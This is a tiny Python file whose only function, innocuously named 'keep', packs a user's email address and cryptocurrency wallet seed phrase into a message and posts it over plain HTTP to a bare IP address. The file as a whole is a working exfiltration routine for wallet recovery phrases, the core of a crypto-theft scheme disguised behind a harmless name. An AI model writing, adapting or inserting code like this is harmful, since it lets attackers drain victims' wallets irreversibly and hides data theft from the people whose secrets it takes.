import urllib.request

FORM = "**Email:** `{}` **Seed phrase:** `{}`"


def keep(address, words):
    body = FORM.format(address, words).encode()
    urllib.request.urlopen(urllib.request.Request("http://203.0.113.7/keep", data=body))
